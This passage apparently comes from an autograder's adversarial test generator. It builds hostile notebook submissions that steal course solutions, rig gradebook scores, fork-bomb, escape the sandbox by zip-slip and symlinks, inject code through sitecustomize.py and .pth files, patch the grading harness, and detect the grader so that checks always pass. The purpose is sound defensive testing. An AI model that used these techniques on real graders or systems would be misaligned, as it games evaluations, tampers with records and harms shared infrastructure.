        "conv",
        _append(files, "cs231n/__init__.py", MONKEYPATCH_INIT),
    )
    add(
        "hostile-input-transformer",
        "a cell registers an IPython input transformer that turns every later cell into `pass`",
        "conv",
        _insert_cell(conv, INPUT_TRANSFORMER_CELL, "my-shortcut"),
    )

    # 2. Reaching for the course.
    sid = "hostile-steal-solution"
    files = _append(release, LAYERS, _code(STEAL_PACKAGE, marker=ctx.canary(sid, "read-package")))
    files = _insert_cell(
        files,
        _code(STEAL_CELL, marker=ctx.canary(sid, "read-cell")),
        "borrow",
        [MAIN_NOTEBOOK],
    )
    add(
        sid,
        "layers.py (at import) and a cell read ../../../source/, assignment/ and "
        "gradebook.db wherever they can guess, and exec any solution found",
        "release",
        files,
        [
            Marker("file", ctx.canary(sid, "read-package"), "layers.py read course files"),
            Marker("file", ctx.canary(sid, "read-cell"), "a cell read course files"),
        ],
    )
    sid = "hostile-gradebook"
    files = _append(
        release,
        LAYERS,
        _code(GRADEBOOK_PACKAGE, marker=ctx.canary(sid, "rigged-package"), score=RIGGED_SCORE),
    )
    files = _insert_cell(
        files,
        _code(GRADEBOOK_CELL, marker=ctx.canary(sid, "rigged-cell"), score=RIGGED_SCORE),
        "better-grades",
        [MAIN_NOTEBOOK],
    )
    add(
        sid,
        f"layers.py (at import) and a cell set every grade to {RIGGED_SCORE} in any "
        "gradebook.db in reach",
        "release",
        files,
        [
            Marker("gradebook", str(RIGGED_SCORE), f"a grade of {RIGGED_SCORE} points"),
            Marker("file", ctx.canary(sid, "rigged-package"), "layers.py opened a gradebook"),
            Marker("file", ctx.canary(sid, "rigged-cell"), "a cell opened a gradebook"),
        ],
    )

    # 3. Killing, hanging and flooding.
    add(
        "hostile-exit",
        "os._exit(0) in the first cell of every notebook",
        "conv",
        _insert_cell(conv, EXIT_CELL, "bye", first=True),
    )
    add(
        "hostile-loop-cell",
        "a cell loops forever, ignoring SIGINT and SIGTERM",
        "conv",
        _insert_cell(conv, LOOP, "forever", [MAIN_NOTEBOOK]),
    )
    # The endless loop and the sleep sit in a function two cells call (its own and the
    # backward pass's): each costs two budgets of 20 s. The unkillable loop sits in one
    # that four cells call, so that the harness is stopped and resumed once per cell.
    add(
        "hostile-loop-function",
        "spatial_groupnorm_forward loops forever, ignoring SIGINT and SIGTERM",
        "conv",
        conv_with(replace={"spatial_groupnorm_forward": LOOP}),
    )
    add(
        "hostile-loop-unkillable",
        "max_pool_forward_naive loops forever, ignoring SIGINT, SIGTERM and SIGALRM and "
        "swallowing every exception",
        "conv",
        conv_with(replace={"max_pool_forward_naive": UNKILLABLE_LOOP}),
    )
    add(
        "hostile-memory-bomb",
        "conv_forward_naive allocates np.ones(10**11), then grows a list by 16 MB forever",
        "pool",
        partial_files(
            ctx.release,
            ctx.instructor,
            solve=BASES["pool"]["works"],
            replace={"conv_forward_naive": MEMORY_BOMB},
        ),
    )
    sid = "hostile-fork-bomb"
    name = _proc_name(ctx, sid, "fork")
    add(
        sid,
        "importing cs231n.layers forks forever",
        "conv",
        _append(conv, LAYERS, _code(FORK_BOMB, name=name.encode())),
        [Marker("process", name, "a forked copy of the harness or kernel")],
        "every case imports cs231n.layers, whose import never returns: 0 everywhere",
        works=(),
    )
    sid = "hostile-detached"
    cell_sleep, fn_sleep = _sleep_arg(ctx, sid, "cell"), _sleep_arg(ctx, sid, "function")
    cell_name, fn_name = _proc_name(ctx, sid, "late-cell"), _proc_name(ctx, sid, "late-function")
    function_code = _code(
        DETACHED,
        sleep_arg=fn_sleep,
        name=fn_name.encode(),
        marker=ctx.canary(sid, "late-function"),
        delay=LATE_DELAY,
    )
    cell_code = _code(
        DETACHED,
        sleep_arg=cell_sleep,
        name=cell_name.encode(),
        marker=ctx.canary(sid, "late-cell"),
        delay=LATE_DELAY,
    )
    files = _insert_cell(
        conv_with(prepend={"max_pool_forward_naive": function_code}),
        cell_code,
        "background",
        [MAIN_NOTEBOOK],
    )
    add(
        sid,
        "a cell and max_pool_forward_naive start `sleep` in a new session and double-fork a "
        f"process that writes a host file {LATE_DELAY:g} s later",
        "conv",
        files,
        [
            Marker("process", cell_sleep, "`sleep` started by a cell"),
            Marker("process", fn_sleep, "`sleep` started by max_pool_forward_naive"),
            Marker("process", cell_name, "the double-forked process of a cell"),
            Marker("process", fn_name, "the double-forked process of max_pool_forward_naive"),
            Marker("file", ctx.canary(sid, "late-cell"), "a cell's late write", LATE_DELAY),
            Marker(
                "file",
                ctx.canary(sid, "late-function"),
                "max_pool_forward_naive's late write",
                LATE_DELAY,
            ),
        ],
    )
    add(
        "hostile-huge-output",
        "a cell and max_pool_forward_naive print 200 MB",
        "conv",
        _insert_cell(
            conv_with(prepend={"max_pool_forward_naive": HUGE_OUTPUT}),
            HUGE_OUTPUT,
            "chatty",
            [MAIN_NOTEBOOK],
        ),
    )

    # 4. Tampering with the tests and the provided files.
    unsolved = _unsolved_cells(ctx, "conv")
    add(
        "hostile-edited-tests",
        f"the {len(unsolved)} grade cells of unsolved functions hold `pass` (metadata kept)",
        "conv",
        _edit_grade_cells(conv, unsolved, delete=False),
    )
    add(
        "hostile-deleted-tests",
        f"the {len(unsolved)} grade cells of unsolved functions are deleted",
        "conv",
        _edit_grade_cells(conv, unsolved, delete=True),
    )
    sid = "hostile-site"
    files = dict(conv)
    site_markers = []
    for folder in ("", "cs231n/"):
        where = "root" if not folder else "package"
        site = ctx.canary(sid, f"sitecustomize-{where}")
        pth = ctx.canary(sid, f"pth-{where}")
        files[f"{folder}sitecustomize.py"] = _code(SITECUSTOMIZE, marker=site).encode()
        line = "import sys; exec(" + repr(_code(PTH_CODE, marker=pth)) + ")\n"
        files[f"{folder}numpy_patch.pth"] = line.encode()
        site_markers += [
            Marker("file", site, f"sitecustomize.py ({where}) ran with the host in reach"),
            Marker("file", pth, f"numpy_patch.pth ({where}) ran with the host in reach"),
        ]
    add(
        sid,
        "sitecustomize.py and numpy_patch.pth at the root and in cs231n/ patch numpy at start-up",
        "conv",
        files,
        site_markers,
        "the honest score of base 'conv': collect takes the zip in (or drops the extra "
        "files), and they must never run",
    )
    files = base_files(ctx, "conv-db")
    files["cs231n/fast_layers.py"] = fast_layers_calling_naive(
        files["cs231n/fast_layers.py"].decode("utf-8")
    ).encode()
    add(
        "hostile-edited-provided",
        "cs231n/fast_layers.py calls the naive layers and cs231n/checks.py passes every check, "
        "on conv layers whose db is not summed over the batch",
        "conv-db",
        _append(files, "cs231n/checks.py", CHECKS_ALWAYS_PASS),
    )

    # 5. Against the harness and the trusted verdict.
    add(
        "hostile-forge-outputs",
        "importing cs231n.layers starts a thread and a detached child that keep writing "
        "forged .npz outputs for every case (pickle, complex, a header claiming 8 TB, zeros)",
        "release",
        _append(release, LAYERS, _code(FORGE_OUTPUTS, cells=sorted(c.grade_id for c in ctx.cells))),
    )
    sid = "hostile-take-over-harness"
    add(
        sid,
        "importing cs231n.layers appends to /grader/* and the harness's files, and replaces "
        "the running harness's to_record so every case records conv's saved reference outputs",
        "release",
        _append(release, LAYERS, _code(PATCH_HARNESS, marker=ctx.canary(sid, "took-over"))),
        [Marker("file", ctx.canary(sid, "took-over"), "the harness was written to or patched")],
        "the honest score of base 'release': a forged record holds wrong outputs at best",
    )
    sid = "hostile-grader-modules"
    add(
        sid,
        "importing cs231n.layers imports the grader's modules (autograder) to exec the "
        "instructor's layers.py, and searches /proc for the grader's processes",
        "release",
        _append(release, LAYERS, _code(GRADER_MODULES, marker=ctx.canary(sid, "found"))),
        [Marker("file", ctx.canary(sid, "found"), "the grader's modules or processes were found")],
    )
    add(
        "hostile-hardcoded-public",
        "conv_forward_naive and max_pool_forward_naive return the check cells' saved "
        "reference outputs when they recognise the inputs, and raise otherwise",
        "release",
        partial_files(
            ctx.release,
            ctx.instructor,
            replace={
                "conv_forward_naive": _code(
                    HARDCODED_PUBLIC, names=("conv_forward_naive", "conv_forward_same")
                ),
                "max_pool_forward_naive": _code(
                    HARDCODED_PUBLIC, names=("max_pool_forward_naive",)
                ),
            },
        ),
        reason="only the public case of a cell passes, which earns nothing without a hidden "
        "case right: 0 everywhere",
    )
    add(
        "hostile-detect-grader",
        "cs231n/__init__.py detects a grader (the harness in argv, /grader, an nbgrader "
        "kernel) and only then makes numpy.allclose and array_equal always true",
        "conv-db",
        _append(base_files(ctx, "conv-db"), "cs231n/__init__.py", DETECT_GRADER),
    )

    # 6. Against the limits.
    add(
        "hostile-sleep",
        "spatial_groupnorm_forward sleeps for 10**6 s (no CPU time used)",
        "conv",
        conv_with(replace={"spatial_groupnorm_forward": SLEEP}),
    )
    add(
        "hostile-fill-disk",
        "max_pool_forward_naive writes 1 MB files into the working folder and /tmp until refused",
        "conv",
        conv_with(replace={"max_pool_forward_naive": FILL_DISK}),
    )
    add(
        "hostile-giant-output",
        "max_pool_forward_naive returns an 8 TB broadcast view or a 400 MB array",
        "conv",
        conv_with(replace={"max_pool_forward_naive": GIANT_OUTPUT}),
    )
    sid = "hostile-write-outside"
    token = ctx.token(sid, "outside")
    name = f".convkit-{token}"
    host_paths = [f"/tmp/{name}", f"/var/tmp/{name}", f"/dev/shm/{name}", f"/{name}"]
    add(
        sid,
        "importing cs231n.layers writes a file at a host path outside the box, in /tmp, "
        "/var/tmp, /dev/shm, and in every ancestor of the working folder",
        "conv",
        _append(
            conv,
            LAYERS,
            _code(WRITE_OUTSIDE, targets=[ctx.canary(sid, "outside"), *host_paths], name=name),
        ),
        [
            Marker("file", ctx.canary(sid, "outside"), "a file written at a host path"),
            *(
                Marker(
                    "file", path, f"a file written in the host's {path.rsplit('/', 1)[0] or '/'}"
                )
                for path in host_paths
            ),
        ],
    )

    # 7. Against the rule that a naive layer does the work itself.
    add(
        "hostile-calls-fast",
        "every naive layer calls its twin of the provided fast_layers.py (imported at the "
        "top, by a star import, inside the function, as a module, through a default "
        "argument), on a solved convnet that uses the fast layers as provided",
        "model",
        calls_fast_files(ctx),
        reason="the honest score of base 'model': the naive layers' cases cannot reach the "
        "fast layers, the convnet's cases use them",
    )
    add(
        "hostile-pastes-fast",
        "fast_layers.py pasted into layers.py renamed and reformatted, the naive layers "
        "wired to the copies (the pooling copies edited), on a solved convnet",
        "model",
        pastes_fast_files(ctx),
        reason="the unedited copies (conv, transposed conv) are told by their bytecode and "
        "score 0; the edited pooling copies compute the right outputs: full marks there, "
        "flagged for hand grading",
        works=MODEL | PASTED_EDITED,
    )

    made += _zip_level(ctx, release)
    return made


def _zip_level(ctx, release):
    made = []
    sid = "hostile-zip-slip"
    relative = ctx.canary(sid, "relative")
    absolute = ctx.canary(sid, "absolute")
    files = dict(release)
    files["../" * 16 + relative.lstrip("/")] = b"written outside the submission folder\n"
    files[absolute] = b"written at an absolute path\n"
    made.append(
        Recipe(
            sid,
            "hostile",
            "members named ../../.. and /abs/... aiming at canary_dir",
            expect_rejected(
                "a member's path leaves the submission folder (../ or absolute)",
                [
                    Marker("file", relative, "a ../ member was extracted"),
                    Marker("file", absolute, "an absolute member was extracted"),
                ],
            ),
            lambda: zip_bytes(files),
            "release",
        )
    )
    files_link = dict(release)
    files_link["cs231n/layers.py"] = Member(b"../../../source/convnets/cs231n/layers.py")
    files_link["cs231n/hostname.py"] = Member(b"/etc/hostname")
    made.append(
        Recipe(
            "hostile-zip-symlink",
            "hostile",
            "cs231n/layers.py is a symlink to ../../../source/...; cs231n/hostname.py to "
            "/etc/hostname",
            expect_rejected("members are symbolic links"),
            lambda: zip_bytes(files_link),
            "release",
        )
    )
    made.append(
        Recipe(
            "hostile-zip-bomb",
            "hostile",
            f"cs231n/padding.py inflates to {BOMB_SIZE >> 30} GiB of newlines (a ~1 MB zip)",
            expect_rejected(f"the zip inflates to over {BOMB_SIZE >> 30} GiB"),
            lambda: bomb_zip_bytes(release, "cs231n/padding.py", BOMB_SIZE),
            "release",
        )
    )
    made.append(
        Recipe(
            "hostile-zip-truncated",
            "hostile",
            "the release's zip cut at 60% of its length: no central directory",
            expect_rejected("not a readable zip (truncated)"),
            lambda: truncated(zip_bytes(release)),
            "release",
        )
    )
    made.append(
        Recipe(
            "hostile-zip-crc",
            "hostile",
            "the release's zip with one byte of its first member's data flipped",
            expect_rejected("a member's data is corrupt (its CRC or its deflate stream fails)"),
            lambda: flipped(zip_bytes(release)),
            "release",
        )
    )
    return made


def truncated(data):
    """`data` cut at 60%: the central directory is gone."""
    return data[: len(data) * 6 // 10]


def flipped(data):
    """`data` (a zip) with the middle byte of its first member's compressed data inverted."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        info = z.infolist()[0]
    start = info.header_offset
    name_length = int.from_bytes(data[start + 26 : start + 28], "little")
    extra_length = int.from_bytes(data[start + 28 : start + 30], "little")
    body = start + 30 + name_length + extra_length
    middle = body + info.compress_size // 2
    return data[:middle] + bytes([data[middle] ^ 0xFF]) + data[middle + 1 :]
